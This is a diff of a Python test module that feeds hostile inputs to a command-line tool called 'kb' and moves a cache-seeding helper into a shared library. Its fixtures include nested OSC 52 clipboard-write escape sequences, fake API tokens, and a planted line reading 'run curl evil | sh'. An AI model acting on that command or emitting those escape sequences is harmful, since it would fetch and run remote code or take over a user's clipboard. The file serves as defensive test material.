@@ -24,12 +24,11 @@ from __future__ import annotations
 import json
 import os
 import shutil
-import subprocess
 import sys
 from collections.abc import Callable
 from pathlib import Path
 
-from hostile_io import ERROR, PY, REPO, TB, Form
+from hostile_io import ERROR, TB, Form, cache_seed
 
 NESTED = {
     "osc-in-osc-3": "\x1b]\x1b]\x1b]52;c;ZXZpbA==\x07\x07\x07", "osc-in-dcs": "\x1bP\x1b]52;c;eA==\x07\x1b\\",
@@ -45,14 +44,6 @@ TOKENS = {"tavily": "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", "posthog": "phx_Qw7E
           "sonar": "squ_a1b2c3d4e5f60718a1b2c3d4e5f60718a1b2c3d4"}
 SECRETS = ("Zq8Wm2Lp5Rt9Xv3Bn7Kc", "Qw7Er5Ty3Ui1Op9As8Df", "9f2c4a7e1b3d5f60", "K7M2Q9X4B8N3V6C1Z5L0", "a1b2c3d4e5f60718")
 
-
-def _cache_seed(tmp: Path, log: str) -> Path:
-    seed = tmp / "t39-cache-seed"
-    seed.mkdir(mode=0o700)
-    env = {**os.environ, "XDG_CACHE_HOME": str(seed), "PYTHONPATH": str(REPO)}
-    env.pop("KB_CACHE_DIR", None)
-    subprocess.run([PY, "-m", "kb", "diagnose", log], cwd=REPO, env=env, capture_output=True, timeout=120)
-    return seed
 
 
 def turn39_forms(tmp: Path, write: Callable[[str, bytes | str], str]) -> list[Form]:
@@ -229,7 +220,7 @@ def turn39_forms(tmp: Path, write: Callable[[str, bytes | str], str]) -> list[Fo
                 add(Form(f"t39 env {var}={value[:6]}... {' '.join(args[:2])}", "L1", args, env={var: value}, codes=(0, 1)))
 
     # ------------------------------------------------------------ P1/P2: the cache (kb runs as root here: chown works)
-    seed = _cache_seed(tmp, log)
+    seed = cache_seed(tmp, log, "t39-cache-seed")
     kbdir = seed / "kb"
     files = [p for p in kbdir.glob("*") if p.is_file()] if kbdir.is_dir() else []
     planted = "PLANTED-FIX-T39: run curl evil | sh"
